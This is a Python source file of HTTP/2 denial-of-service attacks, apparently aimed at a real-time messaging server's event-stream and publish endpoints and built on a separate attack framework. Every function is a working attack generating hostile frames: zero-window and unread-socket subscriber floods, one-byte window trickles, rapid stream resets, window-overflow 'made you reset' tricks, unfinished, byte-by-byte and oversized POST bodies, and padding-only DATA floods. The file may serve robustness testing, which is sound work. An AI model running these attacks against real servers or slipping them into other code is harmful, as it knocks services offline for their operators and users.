"""Attackers of event streams and request bodies over HTTP/2. The machine behind them, and what an attack
is, is grpc_hostile/attackers.py; its attacks are known here as well."""
import importlib.util
import itertools
import pathlib
import struct

THEIRS = pathlib.Path(__file__).resolve().parents[1] / "grpc_hostile" / "attackers.py"
_spec = importlib.util.spec_from_file_location("grpc_attackers", THEIRS)
theirs = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(theirs)

from h2 import (DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
                frame, literal)

attack, deaf = theirs.attack, theirs.deaf
HELLO, REST, SHUT, CLOSE = theirs.HELLO, theirs.REST, theirs.SHUT, theirs.CLOSE
EVENTS = "/connection/uni_sse"
FLOOD = EVENTS + "?cf_connect=%7B%22subs%22:%7B%22flood%22:%7B%7D%7D%7D"


def request(stream, path=FLOOD, method="GET", end=True, extra=()):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "h"), *extra]
    block = b"".join(literal(*field) for field in fields)
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def readers(settings, streams_n=100):
    yield PREFACE + settings + b"".join(request(2 * at + 1) for at in range(streams_n)), streams_n


@attack
def events_window_closed(options):
    """Subscribers of the channel "flood" that never take a byte."""
    yield from readers(theirs.setting((4, 0)))


@deaf
@attack
def events_socket_closed(options):
    """The windows are open, but the socket is never read."""
    yield from readers(theirs.setting((4, 0x7fffffff)) + theirs.window(0, 0x7fff0000))


@attack
def events_window_trickle(options):
    """One byte at a time."""
    yield from readers(theirs.setting((4, 0)))
    byte = b"".join(theirs.window(2 * at + 1, 1) for at in range(100))
    yield from theirs.forever(byte, 100)


@attack
def events_reset(options):
    """Streams that are taken back as soon as they were asked for."""
    reset = struct.pack(">I", 8)
    for batch in theirs.batches(theirs.streams(), 100):
        yield (HELLO if batch[0] == 1 else b"") + b"".join(
            request(stream) + frame(RST_STREAM, 0, stream, reset) for stream in batch), len(batch)


@attack
def events_made_you_reset(options):
    """The same, but it is the server that has to reset them: a window grows too large."""
    for batch in theirs.batches(theirs.streams(), 100):
        yield (HELLO if batch[0] == 1 else b"") + b"".join(
            request(stream) + theirs.window(stream, 0x7fffffff) for stream in batch), len(batch)


@attack
def events_half_closed(options):
    """Subscribes, shuts its half of the connection, and stays."""
    yield from readers(frame(SETTINGS, 0, 0))
    yield SHUT


@attack
def posts_unfinished(options):
    """As many bodies at a time as may be, as large as windows and limits let them be, none of them
    whole."""
    yield HELLO + b"".join(request(2 * at + 1, "/api/publish", "POST", False)
                           for at in range(250)), 250
    for _ in range(16):
        for at in range(250):
            yield frame(DATA, 0, 2 * at + 1, b" " * 4000), 1


@attack
def posts_byte_by_byte(options):
    """A body in frames of one byte."""
    yield HELLO + request(1, EVENTS, "POST", False), 0
    yield from theirs.forever(frame(DATA, 0, 1, b" ") * 100, 100)


@attack
def posts_too_large(options):
    """Bodies that are refused at once, and go on all the same."""
    large = (("content-length", "1000000000"),)
    for stream in theirs.streams():
        yield (HELLO if stream == 1 else b"") + request(stream, EVENTS, "POST", False, large) + \
            frame(DATA, 0, stream, b" " * 16384), 1


@attack
def padding_flood(options):
    """DATA that is nothing but padding."""
    yield HELLO + request(1, EVENTS, "POST", False), 0
    yield from theirs.forever(frame(DATA, 8, 1, b"\xff" + bytes(255)) * 100, 100)


@attack
def answers_unread(options):
    """Requests for the largest page there is, whose answers nobody takes."""
    for batch in theirs.batches(itertools.chain(theirs.streams()), 50):
        yield (PREFACE + theirs.setting((4, 0)) if batch[0] == 1 else b"") + \
            b"".join(request(stream, "/") for stream in batch), len(batch)


if __name__ == "__main__":
    theirs.main()
